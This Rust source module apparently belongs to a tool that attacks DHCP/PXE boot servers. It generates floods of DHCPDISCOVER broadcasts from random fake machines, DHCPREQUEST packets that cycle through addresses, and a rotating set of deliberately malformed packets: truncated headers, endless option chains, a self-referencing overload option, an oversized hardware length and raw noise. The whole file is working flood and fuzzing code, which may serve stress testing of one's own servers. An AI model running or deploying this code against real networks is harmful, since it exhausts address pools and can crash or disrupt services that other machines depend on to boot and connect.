//! Requests on ports 67 and 4011, each of a machine that nobody has seen before.

use super::packets::{broadcast, noise, noise_bytes, send, sockets};
use crate::{Attack, Failure};

const CLIENT_PORT: u16 = 68;
const CLASS: &[u8] = b"PXEClient:Arch:00007:UNDI:003016";
const COOKIE: [u8; 4] = [99, 130, 83, 99];
const DISCOVER: u8 = 1;
const REQUEST: u8 = 3;
/// As firmware pads its packets (RFC 1542, section 2.1).
const PACKET_BYTES_MIN: usize = 300;

pub(crate) async fn attack(how: &str, attack: Attack) -> Result<(), Failure> {
    let sockets = sockets(&attack.addresses, CLIENT_PORT)?;
    let (target, everybody) = (attack.target, broadcast(attack.target));
    let addresses = attack.addresses.clone();
    match how {
        "discover" => {
            send(attack, sockets, move |n| {
                (request(n, DISCOVER, [0; 4]), everybody)
            })
            .await
        }
        "request" => {
            send(attack, sockets, move |n| {
                let from = addresses[n as usize % addresses.len()];
                (request(n, REQUEST, from.octets()), target)
            })
            .await
        }
        "malformed" => send(attack, sockets, move |n| (malformed(n), everybody)).await,
        other => Err(format!("no mode dhcp-{other}").into()),
    }
}

/// What firmware of a machine with random MAC address and UUID sends.
fn request(n: u64, kind: u8, ciaddr: [u8; 4]) -> Vec<u8> {
    let mut packet = header(n, ciaddr);
    packet.extend([53, 1, kind]);
    packet.extend([60, CLASS.len() as u8]);
    packet.extend(CLASS);
    packet.extend([93, 2, 0, 7]);
    packet.extend([94, 3, 1, 3, 16]);
    packet.extend([97, 17, 0]);
    packet.extend(noise_bytes(n, 16));
    packet.extend([55, 6, 1, 3, 43, 60, 66, 67]);
    packet.push(255);
    packet.resize(packet.len().max(PACKET_BYTES_MIN), 0);
    packet
}

fn header(n: u64, ciaddr: [u8; 4]) -> Vec<u8> {
    // op, Ethernet, six bytes, no relay
    let mut packet = vec![1, 1, 6, 0];
    packet.extend((noise(n) as u32).to_be_bytes());
    // the answer by broadcast
    packet.extend([0, 0, 0x80, 0]);
    packet.extend(ciaddr);
    packet.extend([0; 12]);
    packet.extend([2]);
    packet.extend(&noise(n).to_be_bytes()[..5]);
    packet.resize(236, 0);
    packet.extend(COOKIE);
    packet
}

/// In turns: cut off in the header and in an option, an endless chain of options, of one that is joined, of empty ones, of
/// padding, an overload that has one itself, a MAC address of 255 bytes, no cookie, noise.
fn malformed(n: u64) -> Vec<u8> {
    let mut packet = header(n, [0; 4]);
    let mut chain = |option: &[u8]| {
        while packet.len() + option.len() < 1400 {
            packet.extend(option);
        }
        packet.clone()
    };
    match n % 10 {
        0 => packet[..100].to_vec(),
        1 => chain(&[53, 255, 1]),
        2 => chain(&[60, 1, b'P']),
        3 => chain(&[93, 0]),
        4 => chain(&[0]),
        5 => {
            packet.extend([52, 1, 3, 53, 1, DISCOVER]);
            packet[108..111].copy_from_slice(&[52, 1, 3]);
            packet
        }
        6 => {
            packet[2] = 255;
            packet.extend([53, 1, DISCOVER, 255]);
            packet
        }
        7 => {
            packet[236..240].fill(7);
            packet
        }
        8 => chain(&[n as u8, 3, 1, 2, 3]),
        _ => noise_bytes(n, 1400),
    }
}
